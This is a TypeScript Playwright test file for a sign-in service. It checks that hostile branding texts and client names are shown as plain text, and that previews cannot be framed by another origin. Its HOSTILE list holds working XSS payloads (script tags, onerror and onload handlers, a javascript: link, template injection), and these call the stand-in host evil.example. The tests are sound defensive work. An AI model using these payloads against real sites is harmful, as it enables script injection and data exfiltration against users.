import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { BRAND_TEXT_KEYS, BRAND_TEXTS, type Branding, locale } from '@shrd/contract'
import Koa from 'koa'
import { type Browser, chromium, type Page } from 'playwright'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { APPLICATION_ID } from '../../test/application-visit.ts'
import { CHROMIUM } from '../../test/chromium.ts'
import { createTestAccount } from '../../test/test-account.ts'
import { startTestServer, type TestServer } from '../../test/test-server.ts'
import type { RequestState } from '../http/state.ts'
import type { Client } from '../persistence/repositories/clients.ts'
import { createDrawPage } from './draw-page.ts'
import { sampleStep } from './sample-step.ts'
import { serveAssets } from './serve-assets.ts'
import { loadWebBundle } from './web-bundle.ts'

const WEB = join(import.meta.dirname, '../../web/dist')
/** What runs sets this, calls another host, and opens a dialog. */
const RUN = "globalThis.ran=1;fetch('https://evil.example');alert(1)"
/** Markup, attributes and templates that would run it if a page took them for more than text. */
const HOSTILE = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src="data:," onerror="${RUN}">`,
  `"><svg onload="${RUN}">`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">x</a>`,
  `</style><style>@import 'https://evil.example'</style>`,
  `<!--<script>${RUN}`,
  `{{constructor.constructor("${RUN}")()}}`,
]
const STEPS = [
  ...['identify', 'password', 'otp', 'register', 'verify_email', 'forgot', 'reset'],
  ...['second_factor', 'password_change', 'consent'],
]

describe('in Chromium, a page with hostile texts', () => {
  let server: TestServer
  let client: Client
  let own: Server
  let origin: string
  let browser: Browser
  const shown = { hostile: '' }

  beforeAll(async () => {
    server = await startTestServer({ database: 'sqlite' })
    const stored = await server.database.store.oidc.clients.find(APPLICATION_ID)
    if (stored === undefined) throw new Error('the example is not registered')
    client = stored
    own = createServer(await createOwnPages()).listen(0, '127.0.0.1')
    await once(own, 'listening')
    // A server that listens on a port has an address with one.
    origin = `http://localhost:${(own.address() as AddressInfo).port}`
    browser = await chromium.launch(CHROMIUM)
  })
  afterAll(async () => {
    await browser?.close()
    own?.close().closeAllConnections()
    await server?.stop()
  })

  /** The pages of the service, with a branding that no check has seen. */
  async function createOwnPages() {
    const bundle = await loadWebBundle(WEB)
    const draw = createDrawPage({
      bundle: async () => bundle,
      randomBytes: (length) => randomBytes(length),
      findNav: () => Promise.reject(new TypeError('a branded page has no navigation')),
      findClient: async () => client,
      findBranding: async () => brandingOf(shown.hostile),
    })
    return new Koa<RequestState>()
      .use(serveAssets(bundle.directory, '/assets/'))
      .use(async (ctx) => {
        const hostile = { ...client, name: shown.hostile }
        const step = sampleStep(hostile, ctx.query.step, Date.now())
        const page = { name: 'sign_in', door: '/step', step, restart: null } as const
        await draw(ctx, page, { client: hostile })
      })
      .callback()
  }

  function brandingOf(hostile: string): Branding {
    const texts = Object.fromEntries(
      BRAND_TEXT_KEYS.map((key) => {
        const [opening = '', closing = ''] = BRAND_TEXTS[key].slots
        return [key, `${opening}${hostile}${closing}`]
      }),
    )
    return {
      theme: { light: { accent: '#0b6a5f' } },
      texts: Object.fromEntries(locale.options.map((language) => [language, texts])),
      mails: {},
    }
  }

  /** A page, and everything that happens in it. */
  async function openPage() {
    const page = await browser.newPage({ locale: 'en-GB' })
    const [asked, dialogs, problems]: [string[], string[], string[]] = [[], [], []]
    page.on('request', (request) => asked.push(new URL(request.url()).origin))
    page.on('pageerror', (error) => problems.push(error.message))
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      return dialog.dismiss()
    })
    return { page, asked, dialogs, problems }
  }

  /** Loads a page and waits until it works. */
  async function load(page: Page, url: string): Promise<void> {
    await page.goto(url)
    await page.locator('#root:not([inert])').waitFor({ state: 'attached' })
  }

  test('shows them letter by letter, and runs nothing of them', async () => {
    const { page, asked, dialogs, problems } = await openPage()
    shown.hostile = HOSTILE.join(' ')
    for (const step of STEPS) {
      await load(page, `${origin}/?step=${step}`)
      // They are there, so the page has not just left them out.
      const text = await page.locator('#root').textContent()
      expect(oneLine(text ?? ''), step).toContain(shown.hostile)
      expect(await page.title(), step).toContain(shown.hostile)
      const foreign = await page.evaluate(() => ({
        ran: 'ran' in globalThis,
        made: document.querySelectorAll('iframe, object, embed, base, [onerror], [onload]').length,
        scripts: [...document.scripts].filter(({ nonce }) => nonce === '').length,
      }))
      expect(foreign, step).toEqual({ ran: false, made: 0, scripts: 0 })
    }
    expect(new Set(asked)).toEqual(new Set([origin]))
    expect(dialogs).toEqual([])
    expect(problems).toEqual([])
    await page.close()
  }, 60_000)

  test.each(HOSTILE.slice(0, 4))('would run %s if a page took it for markup', async (hostile) => {
    const { page, dialogs } = await openPage()
    await page.setContent(`<p>${hostile}`)
    await expect.poll(() => dialogs).toEqual(['1'])
    expect(await page.evaluate(() => 'ran' in globalThis)).toBe(true)
    await page.close()
  })
})

describe('in Chromium, a preview', () => {
  let server: TestServer
  let browser: Browser
  beforeAll(async () => {
    server = await startTestServer({ database: 'sqlite' })
    browser = await chromium.launch(CHROMIUM)
  })
  afterAll(async () => {
    await browser?.close()
    await server?.stop()
  })

  /** Puts the preview into a frame of a page. */
  async function frameAt(url: string) {
    const page = await browser.newPage({ locale: 'de-DE' })
    const { owner } = await createTestAccount(server)
    const { name } = server.app.services.cookie
    const value = owner.agent.cookie(name) ?? ''
    await page.context().addCookies([{ name, value, url: server.origin }])
    await page.goto(url)
    const { token } = server.app.services.previews.create(APPLICATION_ID)
    await page.evaluate((src) => {
      const frame = document.createElement('iframe')
      frame.src = src
      document.body.append(frame)
    }, `${server.origin}/preview/${token}?locale=de`)
    const frame = await (await page.waitForSelector('iframe')).contentFrame()
    if (frame === null) throw new Error('the frame has no page')
    return { page, frame }
  }

  test('is in a frame of the console, where nothing of it can be used', async () => {
    const { page, frame } = await frameAt(`${server.origin}/dashboard`)
    await frame.getByText('Bei Ihrem Konto anmelden').waitFor()
    // Inert: neither a click nor a key reaches the form.
    const field = frame.locator('input').first()
    await field.focus()
    await page.keyboard.type('zoe@example.org')
    expect(await field.inputValue()).toBe('')
    expect(await frame.locator('script[src]').count()).toBe(0)
    await page.close()
  })

  test('is in no frame of another origin', async () => {
    const other = createServer((_, response) => {
      response.setHeader('Content-Type', 'text/html')
      response.end('<!doctype html><title>another</title><body>')
    }).listen(0, '127.0.0.1')
    await once(other, 'listening')
    // A server that listens on a port has an address with one.
    const { port } = other.address() as AddressInfo
    const { page, frame } = await frameAt(`http://127.0.0.1:${port}/`)
    await expect.poll(() => frame.url()).toContain('chrome-error')
    await page.close()
    other.close().closeAllConnections()
  })
})

function oneLine(text: string): string {
  return text.replaceAll(/\s+/g, ' ')
}
